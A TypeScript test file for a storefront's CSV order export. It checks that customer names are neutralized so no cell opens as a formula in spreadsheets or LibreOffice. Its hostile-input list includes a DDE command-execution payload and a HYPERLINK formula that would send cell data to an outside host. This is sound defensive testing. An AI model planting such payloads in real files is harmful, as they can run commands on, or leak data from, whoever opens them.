import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralizeFormulas } from '../packages/cli/src/order-export/neutralize-formulas.ts';
import { composeCsvText } from '../packages/server/src/resources/orders/listing/csv-text-queries.ts';
import { insertOrder } from './support/order-data.ts';
import { readCsv } from './support/read-csv.ts';
import { needs } from './support/requirements.ts';
import { openStorefront } from './support/storefront.ts';
import { insertClient } from './support/storefront-data.ts';

const { holder, sql } = await openStorefront();

const separators = { comma: ',', semicolon: ';', tab: '\t', pipe: '|' } as const;
const formulaStarts = [...'=+-@\t\r＝＋－＠'];
/** Texts that became formulas in some spreadsheet: plain, behind each separator, and behind quotes that end too early. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  ...Object.values(separators).flatMap((separator) => [
    `x${separator}=1+1`,
    `x${separator} =1+1`,
    `x${separator}"=1+1`,
    `x${separator}""=1+1`,
    `x"${separator}=1+1${separator}"`,
    `"${separator}"=1+1`,
  ]),
  'x\n=1+1',
  'x\r\n=1+1;"=1+1',
  '=HYPERLINK("http://example.org?"&A1;"x")',
  `=cmd|' /C calc'!A0`,
];

/** Reads CSV as a spreadsheet does that was told this separator: a quote counts only at the start of a cell. */
function readLikeSpreadsheet(text: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at++) {
        cell += text[at];
        if (text[at] === '"') at++;
      }
      at++;
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r')
      cell += text[at++];
    cells.push(cell);
    at++;
  }
  return cells;
}

/** The cells of every way to read the text: with quotes and without, by each separator. */
function listCells(text: string): string[] {
  return Object.values(separators).flatMap((separator) => [
    ...readLikeSpreadsheet(text, separator),
    ...text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator)),
    ...text.split(/\r\n|\r|\n/).flatMap((line) => line.replaceAll('"', '').split(separator)),
  ]);
}

const isFormula = (cell: string) =>
  formulaStarts.includes(cell.replace(/^[ \u00a0\u3000\ufeff]+/, '')[0] ?? '');

const writeAsCsv = async (texts: readonly string[]) =>
  (
    await sql<{ cell: string }>(
      `SELECT ${composeCsvText('value')} AS cell FROM unnest($1::text[]) WITH ORDINALITY AS given (value, place) ORDER BY place`,
      [texts],
    )
  ).map(({ cell }) => cell);

let file: string;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'keyfront-csv-'));
  for (const [index, text] of hostile.entries()) {
    const client = await insertClient(sql, holder.tokenId, {
      firstName: text,
      lastName: text,
      email: `${index}@example.org`,
    });
    await insertOrder(sql, holder.tokenId, client.id, { totalAmount: '1234.50' });
  }
  const query = 'orderBy=asc&startDate=&endDate=&search=&searchBy=&status=&paymentStatus=&adminApproval=';
  const reply = await holder.ask('GET', `/orders/export?${query}`, { headers: { accept: 'text/csv' } });
  expect(reply.status).toBe(200);
  file = reply.text;
});
afterAll(() => rmSync(folder, { recursive: true }));

describe('the CSV file of orders in a spreadsheet', () => {
  it('has no cell that starts a formula, by whichever separator it is read', () => {
    expect(listCells(hostile.map((text) => `${text}\r\n`).join('')).filter(isFormula).length).toBeGreaterThan(
      50,
    );
    expect(listCells(file).filter(isFormula)).toEqual([]);
  });

  it('keeps every text as one cell, unchanged but for apostrophes', () => {
    const [, ...rows] = readCsv(file);
    expect(rows.map((row) => row[11])).toEqual(hostile.map(neutralizeFormulas));
    for (const [index, row] of rows.entries()) {
      expect(row[11]?.replaceAll("'", '')).toBe(hostile[index]?.replaceAll("'", ''));
    }
  });

  it('quotes a cell with a separator of any kind', async () => {
    const texts = ['a,b', 'a;b', 'a|b', 'a\tb', 'a\nb', 'a\rb', 'a"b'];
    expect(await writeAsCsv(texts)).toEqual(texts.map((text) => `"${text.replace('"', '""')}"`));
    const plain = ['Ada', "O'Hara", 'a-b', 'x@y.z', 'Jean - Luc', '1=2', 'a:b', ''];
    expect(await writeAsCsv(plain)).toEqual(plain);
  });

  it('neutralizes any text as the command line does in a workbook', async () => {
    const unit = fc.oneof(
      {
        weight: 5,
        arbitrary: fc.constantFrom(...formulaStarts, ...Object.values(separators), ...'"\n \u00a0\u3000'),
      },
      { weight: 2, arbitrary: fc.constantFrom(..."a1'(") },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
    );
    const text = fc.string({ unit, maxLength: 12 }).filter((each) => !/[\0\ud800-\udfff]/.test(each));
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 200, maxLength: 300 }), async (texts) => {
        const cells = await writeAsCsv(texts);
        const read = readCsv(`${cells.join('\r\n')}\r\n`).map(([cell]) => cell);
        expect(read).toEqual(texts.map(neutralizeFormulas));
        expect(listCells(cells.map((cell) => `x,${cell},x\r\n`).join('')).filter(isFormula)).toEqual([]);
      }),
      { numRuns: 20 },
    );
  });
});

describe('the CSV file of orders in LibreOffice', needs('LibreOffice'), () => {
  /** Opens a CSV text as a person does who chooses this separator. Returns the document as XML. */
  function open(name: string, text: string, separator: string): string {
    const source = join(folder, `${name}.csv`);
    writeFileSync(source, text);
    // The codes of the separator and the quote, UTF-8, from line 1 on.
    const filter = `Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1`;
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${join(folder, 'profile')}`,
        ...[
          '--headless',
          '--norestore',
          `--infilter=${filter}`,
          '--convert-to',
          'fods',
          '--outdir',
          folder,
          source,
        ],
      ],
      { stdio: 'ignore', timeout: 120_000 },
    );
    return readFileSync(join(folder, `${name}.fods`), 'utf8');
  }

  it.each(['comma', 'semicolon', 'tab'] as const)(
    'has no formula with the separator %s, and amounts stay numbers',
    { timeout: 240_000 },
    (name) => {
      const separator = separators[name];
      // LibreOffice does run formulas: the file would be dangerous without the rule.
      const bare = open(
        `bare-${name}`,
        hostile.map((text) => `x${separator}${text}${separator}-12.5\n`).join(''),
        separator,
      );
      expect(bare).toContain('table:formula=');
      expect(bare).toContain('office:value="-12.5"');

      const document = open(name, file, separator);
      expect(document).not.toContain('table:formula=');
      expect(document).toContain('office:value-type="string"');
      if (name === 'comma') expect(document).toContain('office:value="1234.5"');
    },
  );
});
